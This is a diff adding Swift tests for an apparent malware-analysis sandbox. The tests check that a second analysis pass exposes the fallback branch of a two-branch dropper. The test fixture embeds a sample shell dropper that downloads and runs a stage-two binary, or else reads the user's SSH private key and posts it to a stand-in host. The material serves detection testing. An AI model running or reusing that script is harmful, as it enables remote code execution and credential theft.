@@ -47,4 +47,70 @@ struct NetworkServedTests {
         // The report shows the download-and-run chain.
         #expect(r.behaviours.contains { $0.id == "downloads-and-executes" }, "\(r.behaviours.map(\.id))")
     }
+
+    /// The two-branch dropper of the issue: it runs its downloaded stage when the download works and
+    /// falls back to stealing SSH keys when it does not. One pass shows one branch; the second pass
+    /// (downloads refused) shows the other, merged into one report.
+    @Test("two-branch dropper: the first pass runs the download, the second (downloads refused) the fallback theft; merged, counted once")
+    func secondPassShowsTheOtherBranch() throws {
+        guard NetworkTLSTests.tool("/usr/bin/curl", "curl") else { return }
+        let script = """
+            #!/bin/sh
+            cd /tmp
+            if curl -sf -m 8 -o stage2 http://update.example/bins/stage2.elf && chmod +x stage2 && ./stage2; then
+              echo "stage two ran"
+            else
+              echo "download unusable: falling back"
+              cat "$HOME/.ssh/id_rsa" > /tmp/.k 2>/dev/null
+              curl -s -m 8 --data-binary @/tmp/.k http://drop.example/k
+            fi
+
+            """
+        let run = try NetworkTLSTests.analyze("twobranch", script)
+        let r = run.report
+        let get = try #require(r.network.http.first { $0.path == "/bins/stage2.elf" })
+        #expect(get.response == "payload:builtin-elf" && get.servedExecuted == true)
+        #expect(r.output.stdoutPreview.contains("stage two ran"), "the first pass took the download branch")
+        let second = try #require(r.secondPass, "a run download calls for a second pass")
+        #expect(second.reason.contains("http://update.example/bins/stage2.elf") && second.answer.contains("refused"))
+        #expect(second.http.contains { $0.contains("/bins/stage2.elf -> 404 refused:elf") }, "\(second.http)")
+        #expect(second.http.contains { $0.contains("POST http://drop.example/k") }, "the fallback uploaded: \(second.http)")
+        // Its own report exists and shows the other branch.
+        let pass2 = try ReportJSON.decode(Data(contentsOf: URL(fileURLWithPath: run.artifacts + "/" + second.report)))
+        #expect(pass2.output.stdoutPreview.contains("download unusable: falling back"))
+        #expect(pass2.secondPass == nil && pass2.network.http.allSatisfy { !$0.response.hasPrefix("payload:") })
+        // Merged: the download chain from pass 1, the key theft from pass 2 only, each counted once.
+        let ids = r.behaviours.map(\.id)
+        #expect(Set(ids).count == ids.count)
+        let theft = try #require(r.behaviours.first { $0.id == "reads-ssh-keys" }, "\(r.behaviours.map { "\($0.id) \($0.passes ?? [])" })")
+        #expect(theft.passes == [2] && second.newBehaviours.contains("reads-ssh-keys"))
+        let chain = try #require(r.behaviours.first { $0.id == "downloads-and-executes" })
+        #expect(chain.passes == [1])
+        #expect(r.behaviours.allSatisfy { $0.passes != nil })
+        // Contributions are rounded one by one: their sum is the score within that rounding.
+        #expect(abs(r.behaviours.map(\.contribution).reduce(0, +) - (r.score?.value ?? -1)) <= 0.01 * Double(r.behaviours.count))
+
+        // --passes 1: no second pass.
+        let dir = TestPrograms.tempDir("onepass")
+        try script.write(toFile: dir + "/s.sh", atomically: true, encoding: .utf8)
+        chmod(dir + "/s.sh", 0o755)
+        var o = Analysis.Options(profile: try Fixtures.profile())
+        o.networkMode = "sinkhole"; o.timeoutSeconds = 25; o.passes = 1
+        o.artifactsDirectory = dir + "/art"; o.reportPath = dir + "/report.json"
+        let one = try Analysis.run(samplePath: dir + "/s.sh", options: o).report
+        #expect(one.secondPass == nil && one.behaviours.allSatisfy { $0.passes == nil })
+        #expect(!one.behaviours.contains { $0.id == "reads-ssh-keys" })
+    }
+
+    @Test("no second pass when nothing served was run")
+    func noSecondPassWithoutARunDownload() throws {
+        let run = try NetworkTLSTests.analyze("nodl", """
+            #!/bin/sh
+            curl -s -m 8 -o /tmp/kit.zip http://dl.example/kit.zip
+            curl -s -m 8 http://www.example/index.html >/dev/null
+
+            """)
+        #expect(run.report.network.http.contains { $0.response == "payload:builtin-zip" && $0.servedExecuted == false })
+        #expect(run.report.secondPass == nil && run.report.behaviours.allSatisfy { $0.passes == nil })
+    }
 }
